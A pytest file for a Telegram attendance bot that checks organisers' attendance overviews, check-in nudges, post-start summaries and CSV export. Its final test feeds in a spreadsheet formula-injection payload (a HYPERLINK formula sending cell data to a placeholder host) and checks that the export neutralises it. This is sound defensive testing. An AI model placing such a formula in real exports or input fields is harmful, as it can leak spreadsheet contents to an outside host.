"""Attendance: the organisers' overview, nudges after the start, the summary and the export."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from sandbox.harness import Member, Rehearsal
from storage.roles import Role
from storage.sessions import Session, SessionStore
from storage.visits import Visit
from tests.test_checkins import START, STUDIO, add_sessions, batik, north_of

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
async def workshop(telegram: Rehearsal, visit: Visit) -> Session:
    """The batik workshop, for participants."""
    sessions = await add_sessions(telegram, visit, batik(audience="role:participant"))
    return sessions["batik"]


@pytest.fixture
async def cohort(telegram: Rehearsal, visit: Visit, rani: Member) -> dict[str, Member]:
    """Rani and three more participants; Dewi was enrolled but never opened the bot."""
    people = {"Rani": rani}
    for name in ("Bayu", "Citra", "Eko"):
        people[name] = await telegram.join(name, Role.PARTICIPANT, visit.id)
    services = telegram.services
    await services.people.store.seen(
        person_id=7777,
        first_name="Dewi",
        last_name=None,
        username=None,
        telegram_language="id",
        private_chat=False,
        now=telegram.clock.now(),
    )
    await services.people.enrol(7777, visit.id, Role.PARTICIPANT)
    return people


async def test_attendance_names_who_came_who_is_late_absent_missing_and_unreachable(
    telegram: Rehearsal, workshop: Session, organiser: Member, cohort: dict[str, Member]
):
    await telegram.move_clock_to(START - timedelta(minutes=5))
    await cohort["Rani"].share_location(*north_of(STUDIO, 20))
    await organiser.send("/mark batik Citra absen sakit perut")
    await telegram.move_clock_to(START + timedelta(minutes=12))
    await cohort["Bayu"].press_data(f"ci:{workshop.id}", cohort["Bayu"].messages[0])

    await organiser.send("/attendance")
    overview = (await organiser.last_message()).text
    assert "Kehadiran: Lokakarya Batik" in overview
    assert "Hadir (1): Rani" in overview
    assert "Terlambat (1): Bayu (09.12)" in overview
    assert "Tidak hadir (1): Citra (sakit perut)" in overview
    assert "Belum check-in (1): Eko" in overview
    assert "Belum terjangkau (1): Dewi" in overview
    assert "Tubagus" not in overview, "organisers are not expected at sessions"


async def test_the_nudge_button_reminds_only_those_not_checked_in(
    telegram: Rehearsal, workshop: Session, organiser: Member, cohort: dict[str, Member]
):
    await telegram.move_clock_to(START + timedelta(minutes=2))
    await cohort["Rani"].press_data(f"ci:{workshop.id}", cohort["Rani"].messages[0])
    marks = {name: member.mark() for name, member in cohort.items()}
    await organiser.send("/attendance batik")
    await organiser.press("🔔 Ingatkan yang belum check-in")
    assert organiser.user.callback_answers[-1].text == "3 orang diingatkan."
    await organiser.press("🔔 Ingatkan yang belum check-in")  # pressed twice: still one nudge
    for name in ("Bayu", "Citra", "Eko"):
        [nudge] = cohort[name].since(marks[name])
        assert "belum check-in" in nudge.text and nudge.button_data() == [f"ci:{workshop.id}"]
    assert cohort["Rani"].since(marks["Rani"]) == []

    await cohort["Eko"].press("✅ Check-in")
    assert "Check-in tercatat" in (await cohort["Eko"].last_message()).text


async def test_after_the_start_the_missing_are_nudged_and_organisers_get_a_summary_once(
    telegram: Rehearsal,
    visit: Visit,
    workshop: Session,
    organiser: Member,
    cohort: dict[str, Member],
):
    cancelled = (await add_sessions(telegram, visit, batik(key="tari", title_id="Tari Gandrung")))[
        "tari"
    ]
    await SessionStore(telegram.services.db).cancel(cancelled.id, telegram.clock.now())
    await telegram.move_clock_to(START - timedelta(minutes=1))
    await cohort["Rani"].press_data(f"ci:{workshop.id}", cohort["Rani"].messages[0])
    marks = {name: member.mark() for name, member in cohort.items()}
    board = organiser.mark()

    await telegram.move_clock_to(START + timedelta(minutes=9))
    assert all(member.since(marks[name]) == [] for name, member in cohort.items())
    await telegram.move_clock_to(START + timedelta(minutes=10))
    for name in ("Bayu", "Citra", "Eko"):
        [nudge] = cohort[name].since(marks[name])
        assert "Lokakarya Batik" in nudge.text and "sampai 09.30" in nudge.text
    assert cohort["Rani"].since(marks["Rani"]) == []

    await telegram.restart()
    await telegram.move_clock_to(START + timedelta(minutes=20))
    await telegram.move_clock(timedelta(minutes=1))
    assert all(len(cohort[n].since(marks[n])) == 1 for n in ("Bayu", "Citra", "Eko"))
    [summary] = organiser.since(board)
    assert "Ringkasan kehadiran" in summary.text
    assert "Hadir (1): Rani" in summary.text and "Belum check-in (3)" in summary.text
    assert "Tari Gandrung" not in summary.text
    rows = await telegram.services.db.fetch_all(
        "SELECT kind, COUNT(*) FROM outbox WHERE kind IN ('nudge', 'attendance_summary')"
        " GROUP BY kind ORDER BY kind"
    )
    assert [tuple(row) for row in rows] == [("attendance_summary", 1), ("nudge", 3)]


async def test_the_export_lists_person_by_session_with_method_and_time(
    telegram: Rehearsal,
    visit: Visit,
    workshop: Session,
    organiser: Member,
    cohort: dict[str, Member],
    database: Path,
    tmp_path: Path,
):
    await telegram.move_clock_to(START - timedelta(minutes=5))
    await cohort["Rani"].share_location(*north_of(STUDIO, 42))
    await organiser.send("/mark batik Citra absen sakit")
    await telegram.move_clock_to(START + timedelta(minutes=15))
    await cohort["Bayu"].press_data(f"ci:{workshop.id}", cohort["Bayu"].messages[0])

    await organiser.send("/export attendance")
    sent = await organiser.last_message()
    assert sent.filename == "attendance-banyuwangi-2025.csv" and sent.document is not None
    rows = list(csv.DictReader(io.StringIO(sent.document.decode("utf-8-sig"))))
    by_name = {row["name"]: row for row in rows}
    assert sorted(by_name) == ["Bayu", "Citra", "Dewi", "Eko", "Rani"]
    assert {row["session_key"] for row in rows} == {"batik"}
    assert by_name["Rani"]["status"] == "present"
    assert by_name["Rani"]["method"] == "location"
    assert by_name["Rani"]["distance_m"] == "42"
    assert by_name["Rani"]["checked_in_at"] == "2025-10-29 08:55:00"
    assert by_name["Rani"]["session_start"] == "2025-10-29 09:00"
    assert (by_name["Bayu"]["status"], by_name["Bayu"]["method"]) == ("late", "button")
    assert (by_name["Citra"]["status"], by_name["Citra"]["reason"]) == ("absent", "sakit")
    assert by_name["Eko"]["status"] == "not_checked_in" and by_name["Eko"]["method"] == ""

    output = tmp_path / "attendance.csv"
    environment = {k: v for k, v in os.environ.items() if k.upper() != "BOT_TOKEN"}
    environment["DATABASE_PATH"] = str(database)
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        *("-m", "bot", "export", "attendance", "--visit", visit.slug, "--output", str(output)),
        cwd=ROOT,
        env=environment,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    _, errors = await asyncio.wait_for(process.communicate(), timeout=60)
    assert process.returncode == 0, errors.decode()
    assert output.read_bytes() == sent.document


async def test_a_name_that_looks_like_a_formula_stays_text_in_the_export(
    telegram: Rehearsal, visit: Visit, workshop: Session, organiser: Member
):
    formula = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    await telegram.join(formula, Role.PARTICIPANT, visit.id)
    await telegram.join("@SUM(1+1)", Role.PARTICIPANT, visit.id, last_name="-2+3")
    await organiser.send("/export attendance")
    sent = await organiser.last_message()
    assert sent.document is not None
    names = {row["name"] for row in csv.DictReader(io.StringIO(sent.document.decode("utf-8-sig")))}
    assert "'" + formula in names and "'@SUM(1+1) -2+3" in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
